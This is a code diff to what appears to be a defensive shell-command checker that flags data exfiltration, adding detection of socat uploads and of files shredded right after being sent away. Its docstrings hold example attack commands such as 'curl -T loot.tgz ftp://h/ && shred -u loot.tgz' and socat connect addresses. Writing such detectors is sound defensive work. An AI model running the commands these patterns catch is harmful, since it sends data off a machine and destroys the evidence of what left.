@@ -53,7 +53,7 @@ from ..parse import WRITE_OPERATORS, Script
 from ..paths import normalize_path
 from ..programs import SHELLS, Invocation, shell_mode, walk, written_text
 from ..request_bodies import CURL_VALUES, request_options, sent_file
-from ..verdict import BACKDOOR, SERVICE_ATTACK, UPLOAD, Verdict
+from ..verdict import BACKDOOR, EVIDENCE, SERVICE_ATTACK, UPLOAD, Verdict
 from .exfiltration import sends_stdin, verb_words
 
 __all__ = ["judge", "judge_script", "note_written", "remote_runner", "unseen_file", "written_here"]
@@ -274,6 +274,12 @@ def _raw_upload(invocation: Invocation) -> str | None:
         if sent is not None and hosts and not is_this_machine(hosts[0]):
             return f"{name} sends {sent} down a bare socket to {hosts[0]}"
         return None
+    if name == "socat":
+        peer = socat_peer(invocation)
+        sent = next(iter(_socat_files(invocation)), None) or _stdin_file(invocation)
+        if peer is not None and sent is not None:
+            return f"socat sends {sent} down a bare socket to {peer}"
+        return None
     if name in _SSH_CLIENTS:
         return _remote_script(invocation)
     if name == "rclone":
@@ -288,6 +294,34 @@ def _raw_upload(invocation: Invocation) -> str | None:
     return None
 
 
+_SOCAT_CONNECT = lazy_compile(
+    r"^(?:tcp|udp|ssl|openssl|sctp|dccp)[46]?(?:-connect|-sendto|-datagram)?:(\[[^\]]*\]|[^:,]+)", re.I
+)
+"""socat's connecting address and its host: ``TCP:10.0.0.5:443``, ``OPENSSL:h:443,verify=0``."""
+_SOCAT_LISTEN = lazy_compile(r"^[a-z0-9]+-(?:listen|l|recv(?:from)?):|^(?:exec|system):", re.I)
+
+
+def socat_peer(invocation: Invocation) -> str | None:
+    """The other machine socat connects to and sends its first address's bytes to (none when it listens:
+    a relay or a server is :mod:`..danger`'s, nor to this machine, nor with ``-U``: the bytes flow back)."""
+    values = _values(invocation)
+    if invocation.name != "socat" or "-U" in values or any(_SOCAT_LISTEN.match(v) for v in values):
+        return None
+    hosts = [m.group(1).strip("[]") for m in map(_SOCAT_CONNECT.match, values) if m]
+    return next((host for host in hosts if not is_this_machine(host)), None)
+
+
+def _socat_files(invocation: Invocation) -> Iterator[str]:
+    """The files a socat address reads (``FILE:backup.tgz``, ``OPEN:x``), devices (a serial line) left out."""
+    for value in _values(invocation):
+        address = _SOCAT_READ.match(value)
+        if address and not (
+            address.group(1).startswith("/dev/") and not address.group(1).startswith("/dev/shm/")
+        ):
+            yield address.group(1)
+
+
+_SOCAT_READ = lazy_compile(r"^(?:file|open|gopen):([^,]+)", re.I)
 _SSH_CLIENTS = frozenset({"ssh", "dbclient", "autossh"})
 _SSH_VALUES = frozenset({"-B", "-b", "-c", "-D", "-E", "-e", "-F", "-I", "-i", "-J", "-L", "-l", "-m", "-O",
                          "-o", "-p", "-Q", "-R", "-S", "-W", "-w", "-M"})  # fmt: skip
@@ -527,6 +561,8 @@ _STREAM_PACKERS = frozenset({"tar", "gtar", "bsdtar", "cpio", "zip", "pax"})
 
 def _socket_peer(invocation: Invocation) -> str | None:
     """The other machine (not a loopback one) a bare socket client sends its input to (``nc HOST 9999``)."""
+    if invocation.name == "socat":
+        return socat_peer(invocation)
     if invocation.name not in NETCATS or not sends_stdin(invocation):
         return None
     plain = netcat_operands(_values(invocation))
@@ -612,8 +648,49 @@ def _piped_to_socket(stages: list[Invocation]) -> Verdict | None:
     return None
 
 
+_WIPERS = frozenset({"shred", "gshred", "srm", "wipe"})
+"""What overwrites a file before it removes it (``rm -P`` on macOS too): its bytes past any recovery."""
+
+
+def _wiped(invocation: Invocation) -> list[str]:
+    """The files ``shred -u``, ``srm``, ``wipe`` or macOS's ``rm -P`` overwrite, as written."""
+    values = _values(invocation)
+    if invocation.name == "rm" and any(v[:1] == "-" and v[1:2] != "-" and "P" in v for v in values):
+        return [v for v in values if v[:1] != "-"]
+    if invocation.name not in _WIPERS:
+        return []
+    return _positionals(values, frozenset({"-n", "-s", "--iterations", "--size", "--random-source"}))
+
+
+def _wiped_after_upload(script: Script) -> Verdict | None:
+    """``curl -T loot.tgz ftp://h/ && shred -u loot.tgz``: the file just sent overwritten and removed, so
+    that no copy on the disk tells what left (a build's upload cleans up with ``rm``, not a shredder)."""
+    sent: dict[str, str] = {}
+    for stages in walk(script):
+        for index, stage in enumerate(stages):
+            for file in _wiped(stage):
+                name = file.rstrip("/").rpartition("/")[2]
+                if name and name in sent:
+                    why = (
+                        f"overwrites {file} right after {sent[name]} sent it away: the staged copy destroyed"
+                    )
+                    return _verdict(EVIDENCE, stage, why)
+            files = list(_sent(stage, stages[:index])) if stage.name else []
+            if _raw_upload(stage) is not None or _socket_peer(stage) is not None:
+                files += [f for f in (_stdin_file(stage), *_socat_files(stage)) if f]
+            peer = index + 1 < len(stages) and _socket_peer(stages[index + 1]) is not None
+            if peer:
+                files += _read_files(stage.name, _values(stage))
+            for file in files:
+                sent.setdefault(file.strip("\"'").rstrip("/").rpartition("/")[2], stage.name)
+    return None
+
+
 def judge_script(script: Script, home: str) -> Verdict | None:
     """In one pipeline, an unseen file read and piped to a program that sends its input away."""
+    wiped = _wiped_after_upload(script)
+    if wiped is not None:
+        return wiped
     for stages in walk(script):
         sent = _piped_to_socket(stages)
         if sent is not None:
